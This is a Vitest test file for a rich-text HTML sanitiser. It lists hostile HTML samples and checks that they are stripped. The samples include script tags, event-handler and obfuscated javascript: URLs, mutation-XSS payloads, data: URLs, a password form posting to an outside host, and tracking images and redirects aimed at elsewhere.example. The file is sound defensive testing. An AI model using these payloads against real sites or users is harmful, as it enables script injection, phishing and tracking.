import { expect, test } from 'vitest';
import { sanitised } from './rich-text.tsx';

function htmlOf(html: string): string {
  const box = document.createElement('div');
  box.append(sanitised(html));
  return box.innerHTML;
}

/** Samples that run code, load from elsewhere, cover the page or request input when they are not sanitised. */
const HOSTILE: readonly string[] = [
  '<script>window.ran=1</script>',
  '<img src=x onerror="window.ran=1">',
  '<p onclick="window.ran=1">x</p>',
  '<a href="javascript:window.ran=1">x</a>',
  '<a href="java\tscript:window.ran=1">x</a>',
  '<a href="&#106;avascript:window.ran=1">x</a>',
  '<a href="data:text/html,<script>window.ran=1</script>">x</a>',
  '<a href="//elsewhere.example">x</a>',
  '<a href="/\\elsewhere.example">x</a>',
  '<a href="/&#9;/elsewhere.example">x</a>',
  '<a href="/.//elsewhere.example">x</a>',
  '<img src="/\\elsewhere.example/spy.png">',
  '<img src="/&#10;/elsewhere.example/spy.png">',
  '<svg onload="window.ran=1"><use href="data:image/svg+xml,x"/></svg>',
  '<svg><style><img src=x onerror=window.ran=1></style></svg>',
  '<style>body{display:none}</style>',
  '<p style="position:fixed;inset:0">x</p>',
  '<iframe srcdoc="<script>parent.ran=1</script>"></iframe>',
  '<object data="x"></object><embed src="x">',
  '<form action="https://elsewhere.example"><input name="password"><button>x</button></form>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=window.ran=1&gt;">',
  '<noscript><p title="</noscript><img src=x onerror=window.ran=1>">',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=window.ran=1>',
  '<template><img src=x onerror=window.ran=1></template>',
  '<img src="https://elsewhere.example/spy.png">',
  '<base href="https://elsewhere.example"><meta http-equiv="refresh" content="0;url=//elsewhere.example">',
  '<p id="main" class="nav" data-x="1" aria-label="x">x</p>',
];

test.each(HOSTILE)('no harmful part of %s is left', async (html) => {
  const clean = htmlOf(html);
  const box = document.createElement('div');
  box.innerHTML = clean;
  document.body.append(box);
  expect(
    box.querySelector('script,style,svg,math,iframe,object,embed,form,input,button,base,meta'),
  ).toBeNull();
  for (const element of box.querySelectorAll('*')) {
    for (const { name, value } of element.attributes) {
      expect(['href', 'src', 'alt', 'title', 'rel', 'target', 'loading', 'decoding']).toContain(name);
      const leadsTo = name === 'href' || name === 'src' ? new URL(value, location.href) : null;
      if (leadsTo) expect(leadsTo.protocol).toMatch(/^https?:$/);
      const opensApart = element.getAttribute('target') === '_blank';
      if (leadsTo && !opensApart) expect(leadsTo.origin).toBe(location.origin);
    }
  }
  await new Promise(requestAnimationFrame);
  expect(Reflect.get(window, 'ran')).toBeUndefined();
  expect(htmlOf(clean)).toBe(clean);
  box.remove();
});

test('article markup is left unchanged', () => {
  const html =
    '<h2>a</h2><p>b <strong>c</strong></p><ul><li>d</li></ul><blockquote><p>e</p></blockquote><a href="/app/help">f</a>';
  expect(htmlOf(html)).toBe(html);
});

test('a link to another site opens apart and sends it nothing', () => {
  expect(htmlOf('<a href="https://elsewhere.example">x</a>')).toContain(
    'rel="noopener noreferrer nofollow" target="_blank"',
  );
});
